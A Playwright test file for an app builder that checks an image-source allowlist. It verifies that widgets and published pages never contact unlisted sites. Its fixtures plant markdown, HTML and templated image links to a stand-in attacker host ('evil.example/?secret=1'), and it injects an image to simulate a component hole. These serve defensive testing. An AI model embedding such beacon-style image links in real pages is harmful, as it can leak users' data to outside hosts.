import { expect, type Page, test } from '@playwright/test'
import { deploy, makeApplication } from '../support/application-draft.ts'
import { AshlarServer } from '../support/ashlar-server.ts'
import { foundOrganization } from '../support/organization.ts'
import type { Person } from '../support/people.ts'

test.describe.configure({ mode: 'serial' })

let server: AshlarServer
let olga: Person
let applicationId: string

const pixel = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)

/** The other sites that were asked for something, answered with a picture. */
const watch = async (page: Page): Promise<string[]> => {
  const asked: string[] = []
  await page.context().route(/^https?:\/\/[^/]*\.example\//u, (route) => {
    asked.push(new URL(route.request().url()).host)
    return route.fulfill({ contentType: 'image/png', body: pixel })
  })
  return asked
}

/** Puts a picture into a page past every component, as a hole in one of them would. */
const plant = (page: Page, address: string): Promise<'loaded' | 'refused'> =>
  page.evaluate(
    (src) =>
      new Promise((resolve) => {
        const picture = new Image()
        picture.onload = () => resolve('loaded')
        picture.onerror = () => resolve('refused')
        picture.src = src
        document.body.append(picture)
      }),
    address,
  )

test.beforeAll(async ({ browser }) => {
  server = await AshlarServer.start()
  olga = await foundOrganization(browser, server)
  const made = await makeApplication(olga.page.request, 'Reports', (page) => {
    page.place(
      'markdown',
      'Report',
      { left: 0, top: 0, columns: 48, rows: 12 },
      {
        text: 'Sales\n\n![Chart of sales](https://evil.example/?secret=1)\n\n![Logo](https://images.example/logo.png)',
      },
    )
    page.place(
      'html',
      'Markup',
      { left: 48, top: 0, columns: 48, rows: 12 },
      { html: '<p>Map <img src="https://evil.example/map.png" alt="Map of shops"></p>' },
    )
    page.place(
      'image',
      'Photo',
      { left: 0, top: 14, columns: 24, rows: 12 },
      { image: '{{ "https://evil.example/" + 1 + ".png" }}', altText: 'The shop' },
    )
  })
  applicationId = made.applicationId
})
test.afterAll(async () => {
  await olga.context.close()
  await server.remove()
})

test('whoever builds sees which pictures are left out, why, and where to allow them', async () => {
  const { page } = olga
  const asked = await watch(page)
  await page.goto(`${server.address}/applications/${applicationId}/edit`)
  const report = page.locator('[data-widget-name="Report"]')
  await expect(report.getByRole('img', { name: 'Chart of sales' })).toBeVisible()
  await expect(
    report.getByRole('img', {
      name: /Report leaves out pictures.*evil\.example.*settings of this application/u,
    }),
  ).toBeVisible()
  await expect(
    page.locator('[data-widget-name="Photo"]').getByRole('img', { name: /Photo leaves out pictures/u }),
  ).toBeVisible()
  await expect(
    page.locator('[data-widget-name="Markup"]').getByRole('img', { name: /Markup leaves out pictures/u }),
  ).toBeVisible()
  expect(asked).toEqual([])
})

test('a site is allowed in the application settings, and shown on the canvas at once', async () => {
  const { page } = olga
  const asked = await watch(page)
  await page.getByRole('button', { name: 'Application settings' }).click()
  const dialog = page.getByRole('dialog', { name: 'Application settings' })
  await expect(dialog.getByRole('radio', { name: 'Only from these sites' })).toBeChecked()
  await dialog.getByRole('textbox', { name: 'Sites' }).fill('*.com')
  await expect(dialog.getByText(/Not the name of a site: \*\.com/u)).toBeVisible()
  await expect(dialog.getByRole('button', { name: 'Save' })).toBeDisabled()
  await dialog.getByRole('textbox', { name: 'Sites' }).fill('https://images.example/logo.png')
  await dialog.getByRole('button', { name: 'Save' }).click()
  await expect(dialog).toBeHidden()
  await expect(page.locator('[data-widget-name="Report"] img[src*="images.example"]')).toBeVisible()
  expect(new Set(asked)).toEqual(new Set(['images.example']))
})

for (const place of ['preview', 'published'] as const) {
  test(`no other site is asked by a page that is ${place}, whatever finds its way into it`, async () => {
    await deploy(olga.page.request, applicationId)
    const page = await olga.context.newPage()
    const asked = await watch(page)
    const below = place === 'preview' ? '/preview' : ''
    await page.goto(`${server.address}/applications/${applicationId}${below}`)
    const report = page.locator('[data-widget-name="Report"]')
    await expect(report.getByRole('img', { name: 'Chart of sales' })).toBeVisible()
    await expect(page.getByRole('img', { name: 'Map of shops' })).toBeVisible()
    await expect(page.getByRole('img', { name: 'The shop' })).toBeVisible()
    await expect(page.getByText('leaves out')).toHaveCount(0)
    await expect.poll(() => asked).toContain('images.example')
    expect(await plant(page, 'https://evil.example/planted.png')).toBe('refused')
    expect(await plant(page, 'https://images.example/planted.png')).toBe('loaded')
    expect(asked).not.toContain('evil.example')
    await page.close()
  })
}
